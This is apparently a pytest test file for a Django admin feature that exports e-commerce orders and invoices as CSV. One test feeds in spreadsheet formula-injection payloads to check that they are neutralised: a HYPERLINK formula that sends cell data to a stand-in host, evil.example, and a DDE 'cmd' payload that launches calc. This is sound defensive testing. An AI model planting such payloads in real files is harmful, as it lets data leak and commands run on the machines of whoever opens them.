"""The CSV exports of the order and invoice lists (issue 8 §3): the admin action on the selected
rows, the button for the whole filtered list, and the file itself (integration.selectors.exports)."""

from __future__ import annotations

import csv
import io
import logging
import re
from datetime import UTC, datetime

import pytest
from django.contrib.auth.models import Permission
from django.contrib.messages import get_messages
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from integration.models import Invoice, Order
from integration.selectors.exports import (
    access_key_series,
    csv_decimal,
    csv_format_for,
    csv_text,
    document_text,
    invoice_export_csv,
    order_export_csv,
)
from integration.services.tracking import invoice_mark_delivered, invoice_set_tracking
from tests.factories import make_acknowledged_order, make_invoice, make_item, make_order

pytestmark = pytest.mark.django_db

ORDERS = "admin:integration_order_changelist"
INVOICES = "admin:integration_invoice_changelist"
BOM = b"\xef\xbb\xbf"
ACCESS_KEY = "35240512345678000190550010000001011000012345"  # series 001, number 101 (NF-101)
ORDER_HEADER = [
    "VTEX order id",
    "Sequence",
    "Created at VTEX (America/Sao_Paulo)",
    "Status",
    "VTEX status",
    "Start-handling",
    "Customer",
    "CPF/CNPJ",
    "City",
    "State (UF)",
    "Currency",
    "Total",
    "Items (units)",
    "Invoiced",
    "Returned",
    "Invoices",
    "Tracking numbers",
    "Document type",
    "Document check",
    "Company name",
    "Trade name",
    "State registration",
    "Seller",
    "Delivery",
    "Pickup point",
]
INVOICE_HEADER = [
    "VTEX order id",
    "Sequence",
    "Invoice number",
    "Series",
    "Type",
    "Issued at (America/Sao_Paulo)",
    "Currency",
    "Value",
    "Items (units)",
    "NF-e access key",
    "Courier",
    "Tracking number",
    "Dispatched at (America/Sao_Paulo)",
    "Delivered at (America/Sao_Paulo)",
    "Send state",
    "VTEX receipt",
    "Entered by",
]


def export_action(client, changelist: str, selected: list[int], **headers):
    # "index" is what the list's "Go" button posts.
    data = {"action": "export_csv", "_selected_action": selected, "index": "0"}
    return client.post(reverse(changelist), data, **headers)


def body(response) -> bytes:
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return b"".join(response.streaming_content)


def rows_of(content: bytes, delimiter: str = ",") -> list[list[str]]:
    assert content.startswith(BOM), content[:10]
    return list(csv.reader(io.StringIO(content[len(BOM) :].decode("utf-8"), newline=""), delimiter=delimiter))


def sent_messages(response) -> list[str]:
    return [message.message for message in get_messages(response.wsgi_request)]


@pytest.fixture
def two_orders(admin_user):
    """An order invoiced in two parts (a sale with tracking, then the rest, delivered) and one with
    no invoice, from a customer whose name has accents and a CNPJ."""
    invoiced = make_acknowledged_order(sequence="5001", customer_name="João da Conceição", city="São Paulo")
    first = make_invoice(
        invoiced,
        quantities={0: 2},
        number="NF-101",
        issued_at=datetime(2024, 5, 3, 13, 30, tzinfo=UTC),
        access_key=ACCESS_KEY,
        actor=admin_user,
    )
    invoice_set_tracking(invoice=first, tracking_number="BR123456789BR", courier="Correios")
    second = make_invoice(
        invoiced,
        number="NF-102",
        issued_at=datetime(2024, 5, 4, 2, 15, tzinfo=UTC),
        access_key="",
        value_cents=7_490,
    )
    invoice_set_tracking(
        invoice=second,
        tracking_number="JD0001",
        courier="Jadlog",
        dispatched_at=datetime(2024, 5, 5, 12, 0, tzinfo=UTC),
    )
    invoice_mark_delivered(invoice=second, delivered_at=datetime(2024, 5, 6, 18, 0, tzinfo=UTC), actor=None)
    plain = make_order(
        sequence="5002",
        customer_name="Ana Lúcia Ferreira",
        customer_document="12345678000195",
        customer_document_type="cnpj",
        city="Florianópolis",
        state_code="SC",
        total_cents=123_456_789,
        created_at_vtex=datetime(2024, 5, 10, 2, 30, tzinfo=UTC),  # 9 May in São Paulo
    )
    make_item(plain, quantity=3)
    return invoiced, plain


# ---- the order action -----------------------------------------------------------------------------------


def test_order_export_has_one_row_per_selected_order_with_these_columns(admin_client, two_orders):
    invoiced, plain = two_orders

    response = export_action(admin_client, ORDERS, [invoiced.pk, plain.pk])

    assert re.fullmatch(r'attachment; filename="orders-\d{4}-\d{2}-\d{2}-\d{4}\.csv"', response["Content-Disposition"])
    assert rows_of(body(response)) == [
        ORDER_HEADER,
        # Newest imported first.
        [
            "5002-01",
            "5002",
            "2024-05-09 23:30:00",
            "Received (VTEX not yet told)",
            "ready-for-handling",
            "Not sent yet",
            "Ana Lúcia Ferreira",
            "12.345.678/0001-95",
            "Florianópolis",
            "SC",
            "BRL",
            "1234567.89",
            "3",
            "0.00",
            "0.00",
            "",
            "",
            "cnpj",
            "not checked",  # a row written here, not read from VTEX: nobody checked it
            "",
            "",
            "",
            "",
            "not said",
            "",
        ],
        [
            "5001-01",
            "5001",
            "2024-05-02 12:00:00",
            "Shipped",  # one of its two packages is delivered
            "handling",
            "Acknowledged",
            "João da Conceição",
            "123.456.789-09",
            "São Paulo",
            "SP",
            "BRL",
            "174.90",
            "6",
            "174.90",
            "0.00",
            "NF-101, NF-102",
            "BR123456789BR, JD0001",
            "cpf",
            "not checked",
            "",
            "",
            "",
            "",
            "not said",
            "",
        ],
    ]


def test_invoice_export_has_one_row_per_selected_invoice_with_these_columns(admin_client, admin_user, two_orders):
    invoiced, _plain = two_orders
    first, second = invoiced.invoices.order_by("number")

    response = export_action(admin_client, INVOICES, [first.pk, second.pk])

    assert re.fullmatch(
        r'attachment; filename="invoices-\d{4}-\d{2}-\d{2}-\d{4}\.csv"', response["Content-Disposition"]
    )
    assert rows_of(body(response)) == [
        INVOICE_HEADER,
        [
            "5001-01",
            "5001",
            "NF-102",
            "",  # no access key, so no series
            "Output (sale)",
            "2024-05-03 23:15:00",
            "BRL",
            "74.90",
            "4",
            "",
            "Jadlog",
            "JD0001",
            "2024-05-05 09:00:00",
            "2024-05-06 15:00:00",
            "Waiting to be sent",
            "",
            "admin",
        ],
        [
            "5001-01",
            "5001",
            "NF-101",
            "1",
            "Output (sale)",
            "2024-05-03 10:30:00",
            "BRL",
            "100.00",
            "2",
            "3524 0512 3456 7800 0190 5500 1000 0001 0110 0001 2345",
            "Correios",
            "BR123456789BR",
            "",
            "",
            "Waiting to be sent",
            "",
            admin_user.get_username(),
        ],
    ]


def test_brazilian_portuguese_gets_semicolons_and_decimal_commas(admin_client, two_orders):
    invoiced, plain = two_orders

    orders = rows_of(body(export_action(admin_client, ORDERS, [plain.pk], HTTP_ACCEPT_LANGUAGE="pt-BR")), ";")
    invoices = rows_of(
        body(
            export_action(
                admin_client, INVOICES, [invoiced.invoices.get(number="NF-101").pk], HTTP_ACCEPT_LANGUAGE="pt-BR"
            )
        ),
        ";",
    )

    assert len(orders[0]) == len(ORDER_HEADER) and len(orders) == 2
    assert orders[1][11] == "1234567,89"  # no thousands separator: a spreadsheet sums the column
    assert orders[1][13] == "0,00"
    assert invoices[1][7] == "100,00"


def test_accents_survive_as_utf8_with_a_bom(admin_client, two_orders):
    invoiced, plain = two_orders

    content = body(export_action(admin_client, ORDERS, [invoiced.pk, plain.pk]))

    assert content.startswith(BOM)  # what makes Excel read UTF-8
    text = content.decode("utf-8")
    for name in ("João da Conceição", "Ana Lúcia Ferreira", "São Paulo", "Florianópolis"):
        assert name in text
    assert "Ã" not in text  # no double encoding


def test_formula_injection_is_neutralised(admin_client):
    order = make_acknowledged_order(
        customer_name='=HYPERLINK("https://evil.example/?x="&A1,"Clique")',
        city="+55 11 99999",
        state_code="@SUM",
    )
    invoice = make_invoice(order, quantities={0: 1}, number="=1+1")
    invoice_set_tracking(invoice=invoice, tracking_number="=cmd|' /C calc'!A0", courier="@Correios")
    Order.objects.filter(pk=order.pk).update(vtex_status="-2+3")  # a status VTEX never sends

    order_row = rows_of(body(export_action(admin_client, ORDERS, [order.pk])))[1]
    invoice_row = rows_of(body(export_action(admin_client, INVOICES, [invoice.pk])))[1]

    assert order_row[6] == """'=HYPERLINK("https://evil.example/?x="&A1,"Clique")"""
    assert order_row[8] == "'+55 11 99999"
    assert order_row[9] == "'@SUM"
    assert order_row[4] == "'-2+3"
    assert order_row[15] == "'=1+1"
    assert invoice_row[2] == "'=1+1"
    assert invoice_row[10] == "'@Correios"
    assert invoice_row[11] == "'=cmd|' /C calc'!A0"
    # Figures written by erp-bridge itself are left alone, a negative amount included.
    assert csv_decimal(-150, csv_format_for("en")) == "-1.50"


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=SUM(A1)", "'=SUM(A1)"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Maria = Souza", "Maria = Souza"),
        ("", ""),
        (None, ""),
    ],
)
def test_csv_text_guards_cells_that_a_spreadsheet_would_run(value, safe):
    assert csv_text(value) == safe


def test_nothing_raw_and_no_secret_in_the_files(admin_client, vtex_settings):
    order = make_acknowledged_order(
        raw={"orderId": "x", "clientProfileData": {"email": "segredo@example.com"}, "marker": "RAW-JSON-MARKER"},
        customer_email="maria.privada@example.com",
        customer_phone="+5511987654321",
        notes="nota interna",
    )
    invoice = make_invoice(order, embedded_xml="<nfeProc>XML-MARKER</nfeProc>")

    text = (
        body(export_action(admin_client, ORDERS, [order.pk]))
        + body(export_action(admin_client, INVOICES, [invoice.pk]))
    ).decode()

    for secret in (
        "RAW-JSON-MARKER",
        "segredo@example.com",
        "XML-MARKER",
        "nota interna",
        "maria.privada@example.com",
        "987654321",
        vtex_settings.VTEX_APP_TOKEN,
        vtex_settings.VTEX_APP_KEY,
    ):
        assert secret not in text


# ---- cost -----------------------------------------------------------------------------------------------------


def _orders_with_invoices(count: int) -> list[int]:
    ids = []
    for _ in range(count):
        order = make_acknowledged_order()
        invoice = make_invoice(order, quantities={0: 1})
        invoice_set_tracking(invoice=invoice, tracking_number=f"BR{order.pk:09d}BR", courier="Correios")
        make_invoice(order)
        ids.append(order.pk)
    return ids


def _queries_of_export(client, changelist: str, selected: list[int]) -> tuple[int, int]:
    with CaptureQueriesContext(connection) as queries:
        rows = rows_of(body(export_action(client, changelist, selected)))
    return len(queries), len(rows) - 1


def test_order_export_takes_the_same_queries_for_5_and_50_orders(admin_client):
    few = _orders_with_invoices(5)
    many = few + _orders_with_invoices(45)

    assert _queries_of_export(admin_client, ORDERS, few) == (_queries_of_export(admin_client, ORDERS, many)[0], 5)
    assert _queries_of_export(admin_client, ORDERS, many)[1] == 50


def test_invoice_export_takes_the_same_queries_for_5_and_50_invoices(admin_client):
    _orders_with_invoices(25)
    invoices = list(Invoice.objects.order_by("pk").values_list("pk", flat=True))

    few = _queries_of_export(admin_client, INVOICES, invoices[:5])
    many = _queries_of_export(admin_client, INVOICES, invoices)

    assert few[1] == 5 and many[1] == 50
    assert few[0] == many[0]


def test_the_files_are_written_in_two_queries_and_one_query(django_assert_num_queries, admin_user):
    _orders_with_invoices(7)

    with django_assert_num_queries(2):  # orders (with their item units), then their invoices
        orders = "".join(order_export_csv(queryset=Order.objects.all(), actor=admin_user, language="en").chunks)
    with django_assert_num_queries(1):
        invoices = "".join(invoice_export_csv(queryset=Invoice.objects.all(), actor=admin_user, language="en").chunks)

    assert orders.count("\r\n") == 1 + 7
    assert invoices.count("\r\n") == 1 + 14


def test_each_order_gets_its_own_invoices_whatever_the_selection(admin_user):
    """The merge of the two streams: orders without invoices between orders with several."""
    orders = []
    for index in range(6):
        order = make_acknowledged_order()
        for part in range(index % 3):  # 0, 1 or 2 invoices
            make_invoice(order, quantities={part: 1}, number=f"NF-{order.sequence}-{part}")
        orders.append(order)
    selected = Order.objects.filter(pk__in=[orders[0].pk, orders[2].pk, orders[4].pk, orders[5].pk])

    text = "".join(order_export_csv(queryset=selected, actor=admin_user, language="en").chunks)
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))[1:]

    got = {row[1]: row[15] for row in rows}
    expected = {
        order.sequence: ", ".join(order.invoices.order_by("issued_at", "pk").values_list("number", flat=True))
        for order in (orders[0], orders[2], orders[4], orders[5])
    }
    assert got == expected
    assert [row[1] for row in rows] == [orders[5].sequence, orders[4].sequence, orders[2].sequence, orders[0].sequence]


# ---- who may, and what the back office is told ---------------------------------------------------------------


@pytest.fixture
def staff_with(django_user_model, client):
    def make(*codenames: str):
        user = django_user_model.objects.create_user("clerk", password="x", is_staff=True)
        user.user_permissions.add(
            *Permission.objects.filter(content_type__app_label="integration", codename__in=codenames)
        )
        client.force_login(user)
        return client

    return make


def test_a_user_without_the_view_permission_cannot_export(staff_with, two_orders):
    invoiced, plain = two_orders
    client = staff_with("view_orderevent")

    assert export_action(client, ORDERS, [invoiced.pk, plain.pk]).status_code == 403
    assert export_action(client, INVOICES, [invoiced.invoices.first().pk]).status_code == 403
    assert client.get(reverse("admin:integration_order_export_csv")).status_code == 403
    assert client.get(reverse("admin:integration_invoice_export_csv")).status_code == 403


def test_the_view_permission_is_enough_to_see_and_run_the_export(staff_with, two_orders):
    invoiced, plain = two_orders
    client = staff_with("view_order")

    page = client.get(reverse(ORDERS))
    choices = dict(page.context["action_form"].fields["action"].choices)
    assert choices["export_csv"] == "Export selected orders to CSV"
    assert "refresh_from_vtex" not in choices  # needs the change permission
    assert len(rows_of(body(export_action(client, ORDERS, [invoiced.pk, plain.pk])))) == 3
    assert reverse("admin:integration_order_export_csv") in page.content.decode()


def test_invoice_list_offers_the_export(admin_client, two_orders):
    page = admin_client.get(reverse(INVOICES))

    choices = dict(page.context["action_form"].fields["action"].choices)
    assert choices["export_csv"] == "Export selected invoices to CSV"
    assert reverse("admin:integration_invoice_export_csv") in page.content.decode()


def test_an_empty_selection_exports_nothing_and_says_so(admin_client, two_orders):
    response = export_action(admin_client, ORDERS, [])

    # Django's own answer: back to the list, with its message, and no file.
    assert response.status_code == 302
    assert response["Location"] == reverse(ORDERS)
    assert sent_messages(response) == [
        "Items must be selected in order to perform actions on them. No items have been changed."
    ]


def test_the_export_is_logged_with_who_and_how_many_but_no_personal_data(admin_client, admin_user, two_orders, caplog):
    invoiced, plain = two_orders

    with caplog.at_level(logging.INFO, logger="integration.selectors.exports"):
        body(export_action(admin_client, ORDERS, [invoiced.pk, plain.pk]))

    records = [record.getMessage() for record in caplog.records if record.name == "integration.selectors.exports"]
    assert records == [f"CSV export of orders by user id {admin_user.pk}: 2 rows"]
    for personal in ("João", "Ana", "123456", admin_user.get_username()):
        assert personal not in records[0]


def test_an_interrupted_download_is_logged_too(admin_user, caplog):
    _orders_with_invoices(3)
    export = order_export_csv(queryset=Order.objects.all(), actor=admin_user, language="en")

    with caplog.at_level(logging.INFO, logger="integration.selectors.exports"):
        next(export.chunks)
        export.chunks.close()  # what the server does when the browser goes away

    assert [record.getMessage() for record in caplog.records] == [
        f"CSV export of orders by user id {admin_user.pk}: 3 rows (interrupted)"
    ]


# ---- the whole filtered list ------------------------------------------------------------------------------------


def test_the_button_exports_every_row_the_list_filters_select(admin_client, two_orders):
    invoiced, plain = two_orders
    url = reverse("admin:integration_order_export_csv")

    filtered = rows_of(body(admin_client.get(url, {"state": Order.State.RECEIVED, "p": "3"})))
    searched = rows_of(body(admin_client.get(url, {"q": "João"})))
    everything = rows_of(body(admin_client.get(url)))

    assert [row[0] for row in filtered[1:]] == [plain.order_id]
    assert [row[0] for row in searched[1:]] == [invoiced.order_id]
    assert [row[0] for row in everything[1:]] == [plain.order_id, invoiced.order_id]


def test_the_button_on_an_empty_list_says_there_is_nothing_to_export(admin_client, two_orders):
    response = admin_client.get(reverse("admin:integration_invoice_export_csv"), {"q": "no-such-invoice"})

    assert response.status_code == 302
    assert response["Location"] == reverse(INVOICES) + "?q=no-such-invoice"
    assert sent_messages(response) == ["Nothing to export: no row matches these filters."]


def test_the_button_with_a_wrong_filter_goes_back_to_the_list(admin_client, two_orders):
    response = admin_client.get(reverse("admin:integration_order_export_csv"), {"no_such_field": "1"})

    assert response.status_code == 302
    assert response["Location"] == reverse(ORDERS) + "?e=1"


# ---- the cells ------------------------------------------------------------------------------------------------


def test_documents_keys_and_series_are_written_so_a_spreadsheet_keeps_them():
    assert document_text("01234567890") == "012.345.678-90"  # the leading zero stays
    assert document_text("12345678000195") == "12.345.678/0001-95"
    assert document_text("A1234") == "A1234"
    assert access_key_series(ACCESS_KEY) == "1"
    assert access_key_series("35240512345678000190550230000012341000012345") == "23"
    assert access_key_series("not a key") == ""


@pytest.mark.parametrize(
    ("language", "delimiter", "decimal"), [("pt-br", ";", ","), ("pt", ";", ","), ("en", ",", ".")]
)
def test_the_separators_follow_the_language(language, delimiter, decimal):
    fmt = csv_format_for(language)

    assert (fmt.delimiter, fmt.decimal) == (delimiter, decimal)
